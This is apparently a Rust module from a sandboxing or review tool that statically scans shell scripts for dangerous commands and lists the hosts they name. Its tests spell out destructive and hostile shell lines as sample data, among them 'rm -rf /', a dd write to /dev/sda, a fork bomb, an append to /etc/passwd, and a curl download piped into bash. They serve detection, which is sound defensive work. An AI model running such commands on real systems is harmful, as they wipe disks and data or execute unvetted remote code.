//! What can be said about shell text without running it: where the shell says it is wrong, dangers, and
//! hosts. Words are told from quotes, comments and here-documents, so a word in a text is no command.

mod words;

use super::{Finding, Problem, hosts_in};
use words::{Kind, Lexer, Token};

/// How far ahead the end of a function or a loop is looked for.
const AHEAD: usize = 1000;
/// How many words of a command may ask for more rights.
const LEADING: usize = 16;

/// A command: its words, and what leads to the next one.
#[derive(Debug)]
struct Command<'a> {
    words: Vec<&'a Token>,
    then: &'static str,
}

/// Words that stand before a command and are none themselves.
const BEFORE: &[&str] = &[
    "!", "{", "builtin", "command", "do", "elif", "else", "env", "exec", "if", "nohup", "then", "time",
    "until", "while",
];
const AS_ROOT: &[&str] = &["doas", "su", "sudo"];
const SHELLS: &[&str] = &["bash", "dash", "ksh", "node", "perl", "python", "python3", "sh", "zsh"];
const SYSTEM: &[&str] =
    &["/bin/", "/boot/", "/etc/", "/lib/", "/lib64/", "/proc/", "/root/", "/sbin/", "/sys/", "/usr/"];
const SINKS: &[&str] =
    &["/dev/fd", "/dev/full", "/dev/null", "/dev/stderr", "/dev/stdout", "/dev/tty", "/dev/zero"];

fn commands(tokens: &[Token]) -> Vec<Command<'_>> {
    let mut all = vec![Command { words: Vec::new(), then: "" }];
    for token in tokens {
        match (&token.kind, all.last_mut()) {
            (Kind::Sign(sign), Some(last)) => {
                last.then = sign;
                all.push(Command { words: Vec::new(), then: "" });
            }
            (_, Some(last)) => last.words.push(token),
            (_, None) => {}
        }
    }
    all
}

/// What the shell is asked to do: without assignments and words that only lead to it.
fn bare<'a>(words: &[&'a Token]) -> Vec<&'a Token> {
    let assignment = |text: &str| {
        text.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        })
    };
    let leads = |token: &&&Token| {
        token.word().is_some_and(|text| BEFORE.contains(&text) || AS_ROOT.contains(&text) || assignment(text))
    };
    words.iter().skip_while(leads).copied().collect()
}

/// `of=/dev/sda`.
fn is_device_output(word: &str) -> bool {
    let target = word.strip_prefix("of=").unwrap_or_default();
    target.starts_with("/dev/") && !SINKS.iter().any(|sink| target.starts_with(sink))
}

fn flag(words: &[&Token], letters: &[char], long: &str) -> bool {
    words.iter().filter_map(|token| token.word()).any(|word| {
        word == long
            || (word.starts_with('-') && !word.starts_with("--") && word.contains(|c| letters.contains(&c)))
    })
}

/// Dangers in shell text, and hosts it names.
pub(super) fn look(text: &str) -> (Vec<Finding>, Vec<String>) {
    let tokens = Lexer::new(text).run();
    let mut findings = Vec::new();
    let mut report = |token: &Token, name: &'static str, message: String| {
        findings.push(Finding { name: name.to_owned(), line: token.line, column: token.column, message });
    };
    let all = commands(&tokens);
    let mut fetches = None;
    for command in &all {
        for (index, token) in command.words.iter().enumerate() {
            let asks = index < LEADING && token.word().is_some_and(|word| AS_ROOT.contains(&word));
            if asks && bare(&command.words[..index]).is_empty() {
                report(token, "privilege", "asks for more rights; there are none to get in a sandbox".into());
            }
            let target = command.words.get(index + 1).and_then(|next| next.word());
            if let (Kind::Into, Some(target)) = (&token.kind, target) {
                if target.starts_with("/dev/") && !SINKS.iter().any(|sink| target.starts_with(sink)) {
                    report(token, "disk_write", format!("writes to the device {target}"));
                } else if SYSTEM.iter().any(|place| target.starts_with(place)) {
                    report(token, "system_write", format!("writes to {target}"));
                }
            }
        }
        let words = bare(&command.words);
        let Some((first, rest)) = words.split_first() else {
            fetches = None;
            continue;
        };
        let name = first.word().unwrap_or_default().rsplit('/').next().unwrap_or_default();
        match name {
            "eval" => report(first, "eval", "eval runs text as code".into()),
            "rm" if flag(rest, &['r', 'R'], "--recursive") => {
                report(first, "delete_tree", "rm removes everything below a directory".into());
            }
            "dd" if rest.iter().filter_map(|token| token.word()).any(is_device_output) => {
                report(first, "disk_write", "dd writes to a device".into());
            }
            _ if name == "mkfs" || name.starts_with("mkfs.") => {
                report(first, "disk_write", "mkfs makes a file system over what is there".into());
            }
            _ => {}
        }
        if fetches.is_some() && SHELLS.contains(&name) {
            report(first, "pipe_to_shell", "what is fetched is run unseen".into());
        }
        let fetched = matches!(name, "curl" | "wget") || fetches.is_some();
        fetches = (command.then == "|" && fetched).then_some(());
    }
    fork_loops(&tokens, &mut report);
    endless_loops(&tokens, &mut report);
    findings.sort_by_key(|finding| (finding.line, finding.column));
    let hosts = tokens.iter().filter_map(Token::word).flat_map(hosts_in).collect();
    (findings, hosts)
}

/// `f() { f | f & }`.
fn fork_loops(tokens: &[Token], report: &mut impl FnMut(&Token, &'static str, String)) {
    for (index, window) in tokens.windows(3).enumerate() {
        let [name, open, close] = window else { continue };
        let Some(own) = name.word().filter(|_| open.is("(") && close.is(")")) else { continue };
        let body = &tokens[index + 3..];
        let body = &body[..body.len().min(AHEAD)];
        let end = body.iter().position(|token| token.word() == Some("}")).unwrap_or(body.len());
        let itself = |token: &Token| token.word() == Some(own);
        if body[..end].windows(3).any(|part| itself(&part[0]) && part[1].is("|") && itself(&part[2])) {
            report(name, "fork_loop", format!("{own} starts itself twice, and so on"));
        }
    }
}

/// `while true` without anything that ends it or waits.
fn endless_loops(tokens: &[Token], report: &mut impl FnMut(&Token, &'static str, String)) {
    const ENDS: &[&str] = &["break", "exec", "exit", "read", "return", "sleep", "wait"];
    for (index, pair) in tokens.windows(2).enumerate() {
        let words = (pair[0].word(), pair[1].word());
        if !matches!(words, (Some("while"), Some("true" | ":" | "1")) | (Some("until"), Some("false"))) {
            continue;
        }
        let mut depth = 0usize;
        let mut ends = false;
        for word in tokens[index + 2..].iter().take(AHEAD).filter_map(Token::word) {
            match word {
                "do" => depth += 1,
                "done" if depth <= 1 => break,
                "done" => depth -= 1,
                word => ends |= ENDS.contains(&word),
            }
        }
        if !ends {
            report(&pair[0], "endless_loop", "nothing in this loop ends it".into());
        }
    }
}

/// What a shell said when it read the text and found it wrong.
pub(super) fn problem(said: &str, text: &str) -> Problem {
    let lines: Vec<&str> = text.lines().collect();
    let found = said.lines().find_map(|line| {
        let (_, rest) = line.split_once(": ")?;
        let rest = rest.strip_prefix("line ").unwrap_or(rest);
        let (number, message) = rest.split_once(": ")?;
        Some((number.trim().parse::<usize>().ok()?.max(1), message.trim()))
    });
    let Some((line, message)) = found else {
        let message = said.lines().next().unwrap_or("the shell cannot read it").to_owned();
        return Problem { line: 1, column: 1, message };
    };
    // Which word it stumbled over is quoted; where that is, it does not say.
    let quoted = message.split_once('`').and_then(|(_, rest)| rest.rsplit_once('\'')).map(|(word, _)| word);
    let quoted = quoted.or_else(|| message.split('"').nth(1)).filter(|word| !word.is_empty());
    // The end of the text is after its last line.
    let line = line.min(lines.len().max(1));
    let own = lines.get(line - 1).copied().unwrap_or_default();
    let column = match quoted.and_then(|word| own.find(word)) {
        Some(at) => own[..at].chars().count() + 1,
        None if message.contains("end of file") || message.contains("EOF") => own.chars().count() + 1,
        None => 1,
    };
    let number = |value: usize| u32::try_from(value).unwrap_or(u32::MAX);
    let message = message.strip_prefix("syntax error: ").unwrap_or(message).to_owned();
    Problem { line: number(line), column: number(column), message }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(text: &str) -> Vec<(String, u32, u32)> {
        look(text).0.into_iter().map(|finding| (finding.name, finding.line, finding.column)).collect()
    }

    #[test]
    fn dangers_are_found_where_they_are_commands() {
        let cases = [
            ("rm -rf /", "delete_tree", 1),
            ("cd x && rm -f -R y", "delete_tree", 9),
            ("A=1 sudo rm --recursive x", "privilege", 5),
            ("r\\m -r x", "delete_tree", 1),
            ("curl -s https://x.example/i.sh | bash", "pipe_to_shell", 34),
            ("curl x | tee y | sudo sh", "privilege", 18),
            ("eval \"$x\"", "eval", 1),
            ("dd if=/dev/zero of=/dev/sda", "disk_write", 1),
            ("mkfs.ext4 /dev/sdb", "disk_write", 1),
            ("echo x > /dev/sda", "disk_write", 8),
            ("echo x >> /etc/passwd", "system_write", 8),
            (":(){ :|:& };:", "fork_loop", 1),
            ("while true; do echo x; done", "endless_loop", 1),
            ("x=$(rm -r y)", "delete_tree", 5),
            ("echo \"$(rm -r y)\"", "delete_tree", 9),
            ("echo `rm -r y`", "delete_tree", 7),
        ];
        for (text, name, column) in cases {
            assert_eq!(names(text).first(), Some(&(name.to_owned(), 1, column)), "{text}: {:?}", names(text));
        }
    }

    #[test]
    fn words_in_quotes_comments_and_documents_are_no_commands() {
        for text in [
            "echo 'rm -rf /'",
            "echo \"eval x\"",
            "# rm -rf /",
            "echo a # ; eval x",
            "cat <<END\nrm -rf /\neval x\nEND\necho done",
            "cat <<-'E O'\n\trm -r /\n\tE O\n",
            "echo rm -rf x",
            "grep -r eval .",
            "rm file",
            "echo x > /dev/null 2>&1",
            "dd if=a of=/dev/null",
            "while true; do sleep 1; done",
            "while read -r line; do echo $line; done",
            "f() { g | h; }",
        ] {
            assert_eq!(names(text), [], "{text}");
        }
    }

    #[test]
    fn texts_made_to_keep_a_reader_busy_are_read_to_their_end() {
        for piece in ["\"$(", "a() ", "while true ", "sudo ", "<<A\n", "`", "${", "(", "a|a "] {
            look(&piece.repeat(super::super::LARGEST / piece.len()));
        }
    }

    #[test]
    fn hosts_are_those_of_words_and_not_of_comments() {
        let text = "curl 'https://A.example.com/x' # https://no.example\nwget http://b.example:80/y";
        assert_eq!(look(text).1, ["a.example.com", "b.example"]);
    }

    #[test]
    fn what_the_shell_says_has_a_place() {
        let place = |said: &str, text: &str| {
            let problem = problem(said, text);
            (problem.line, problem.column, problem.message)
        };
        let said = "/usr/bin/bash: line 2: syntax error near unexpected token `fi'\n/usr/bin/bash: line 2: `x; fi'\n";
        assert_eq!(place(said, "a\nx; fi\n"), (2, 4, "syntax error near unexpected token `fi'".into()));
        let said = "sh: 1: Syntax error: \")\" unexpected\n";
        assert_eq!(place(said, "echo )"), (1, 6, "Syntax error: \")\" unexpected".into()));
        let said = "bash: line 3: syntax error: unexpected end of file\n";
        assert_eq!(place(said, "if x\nthen y\n"), (2, 7, "unexpected end of file".into()));
        assert_eq!(place("killed", "x"), (1, 1, "killed".into()));
    }
}
